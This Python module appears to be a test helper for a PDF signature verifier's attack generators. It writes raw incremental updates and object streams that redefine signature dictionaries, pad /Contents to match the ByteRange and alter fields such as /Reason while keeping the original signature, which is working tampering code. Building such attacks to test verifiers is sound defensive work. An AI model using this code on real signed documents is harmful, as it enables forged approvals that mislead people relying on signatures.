"""Raw PDF editing for the attack generators: read a signature's object, append a hand-written update.

Written for these tests from the PDF syntax itself (ISO 32000 7.3, 7.5), so that the attacks do not
depend on the library the verifier uses.
"""

from __future__ import annotations

import re
import zlib
from dataclasses import dataclass
from io import BytesIO


@dataclass(frozen=True)
class RawSig:
    field: str
    idnum: int
    offset: int  # of "N 0 obj"
    body: bytes  # from "N 0 obj" to "endobj" inclusive
    byte_range: tuple[int, int, int, int]
    contents: bytes  # decoded /Contents, with its zero padding


def signatures(pdf: bytes) -> list[RawSig]:
    from pyhanko.pdf_utils.reader import PdfFileReader

    reader = PdfFileReader(BytesIO(pdf), strict=False)
    out = []
    for emb in reader.embedded_signatures:
        ref = emb.sig_field.raw_get("/V").reference
        offset = reader.xrefs[ref]
        end = pdf.index(b"endobj", offset) + len(b"endobj")
        body = pdf[offset:end]
        hexpart = re.search(rb"/Contents\s*<([0-9A-Fa-f]+)>", body)
        assert hexpart is not None
        br = tuple(int(v) for v in emb.byte_range)
        out.append(RawSig(str(emb.field_name), ref.idnum, offset, body, br, bytes.fromhex(hexpart.group(1).decode())))  # type: ignore[arg-type]
    return out


def last_trailer(pdf: bytes) -> tuple[bytes, int]:
    """The last trailer dictionary's entries (without /Prev) and the last startxref."""
    startxref = int(re.findall(rb"startxref\s+(\d+)", pdf)[-1])
    start = pdf.rindex(b"trailer")
    body = pdf[start + len(b"trailer") : pdf.index(b"startxref", start)].strip()
    body = re.sub(rb"/Prev\s+\d+", b"", body[2:-2])
    return body, startxref


def literal(data: bytes) -> bytes:
    """A PDF literal string holding ``data`` exactly."""
    escaped = data.replace(b"\\", b"\\\\").replace(b"(", b"\\(").replace(b")", b"\\)").replace(b"\r", b"\\r")
    return b"(" + escaped + b")"


def append_update(pdf: bytes, objects: dict[int, bytes], filler: int = 0) -> bytes:
    """``pdf`` with an incremental update (xref table) redefining ``objects`` (idnum -> "N 0 obj ... endobj")."""
    entries, _ = last_trailer(pdf)
    _, prev = last_trailer(pdf)
    out = bytearray(pdf)
    if not out.endswith(b"\n"):
        out += b"\n"
    offsets = {}
    for idnum, body in sorted(objects.items()):
        offsets[idnum] = len(out)
        out += body + b"\n"
    out += b" " * filler
    xref_at = len(out)
    out += b"xref\n"
    for idnum, off in sorted(offsets.items()):
        out += b"%d 1\n%010d 00000 n \n" % (idnum, off)
    out += b"trailer\n<<" + entries + b" /Prev %d>>\nstartxref\n%d\n%%%%EOF\n" % (prev, xref_at)
    return bytes(out)


def append_objstm_update(pdf: bytes, objects: dict[int, bytes], filler: int = 0) -> bytes:
    """The same, with the objects (bodies without "N 0 obj"/"endobj") in one compressed object stream."""
    entries, prev = last_trailer(pdf)
    size = int(re.search(rb"/Size\s+(\d+)", entries).group(1))  # type: ignore[union-attr]
    stm_id, xref_id = size, size + 1
    heads, datas, pos = [], [], 0
    for idnum, body in sorted(objects.items()):
        heads.append(b"%d %d" % (idnum, pos))
        datas.append(body)
        pos += len(body) + 1
    head = b" ".join(heads) + b"\n"
    packed = zlib.compress(head + b"\n".join(datas) + b"\n", 9)
    out = bytearray(pdf)
    if not out.endswith(b"\n"):
        out += b"\n"
    stm_at = len(out)
    out += b"%d 0 obj\n<</Type /ObjStm /N %d /First %d /Filter /FlateDecode /Length %d>>\nstream\n" % (
        stm_id,
        len(objects),
        len(head),
        len(packed),
    )
    out += packed + b"\nendstream\nendobj\n" + b" " * filler
    xref_at = len(out)
    rows = [(stm_id, b"\x01" + stm_at.to_bytes(4, "big") + b"\x00\x00")]
    rows += [
        (idnum, b"\x02" + stm_id.to_bytes(4, "big") + i.to_bytes(2, "big")) for i, idnum in enumerate(sorted(objects))
    ]
    rows.append((xref_id, b"\x01" + xref_at.to_bytes(4, "big") + b"\x00\x00"))
    rows.sort()
    index = b" ".join(b"%d 1" % idnum for idnum, _ in rows)
    data = b"".join(row for _, row in rows)
    entries = re.sub(rb"/Size\s+\d+", b"", entries)
    out += b"%d 0 obj\n<<%s /Type /XRef /Size %d /W [1 4 2] /Index [%s] /Prev %d /Length %d>>\nstream\n" % (
        xref_id,
        entries,
        xref_id + 1,
        index,
        prev,
        len(data),
    )
    out += data + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % xref_at
    return bytes(out)


def padded_override(
    pdf: bytes,
    sigs: list[RawSig],
    edit: dict[int, bytes] | None = None,
    *,
    objstm: bool = False,
    reason: bytes | None = None,
) -> bytes:
    """Redefine every signature in ``sigs`` (same ByteRange and CMS) with /Contents zero-padded so that the
    file's size equals the last one's ByteRange plus its /Contents, plus any ``edit`` objects.
    """
    last = sigs[-1]
    base = last.byte_range[1] + last.byte_range[3] + 2
    pad, filler = 0, 0
    for _ in range(200):
        objects = dict(edit or {})
        for sig in sigs:
            extra = pad if sig is last else 0
            padded = b"/Contents " + literal(sig.contents + b"\0" * extra)
            body = re.sub(rb"/Contents\s*<[0-9A-Fa-f]+>", lambda _m, r=padded: r, sig.body)  # type: ignore[misc]
            if reason is not None and sig is last:
                body = re.sub(rb"/Reason\s*\((?:[^()\\]|\\.)*\)", lambda m: b"/Reason " + literal(reason), body)
            objects[sig.idnum] = body
        if objstm:
            objects = {k: re.sub(rb"^\d+ 0 obj\s*|\s*endobj$", b"", v) for k, v in objects.items()}
            out = append_objstm_update(pdf, objects, filler)
        else:
            out = append_update(pdf, objects, filler)
        target = base + 2 * (len(last.contents) + pad)
        if len(out) == target:
            return out
        if len(out) > target:
            pad += max(1, (len(out) - target) // (1 if not objstm else 2))
        else:
            filler += target - len(out)
    raise AssertionError("could not balance the padding")
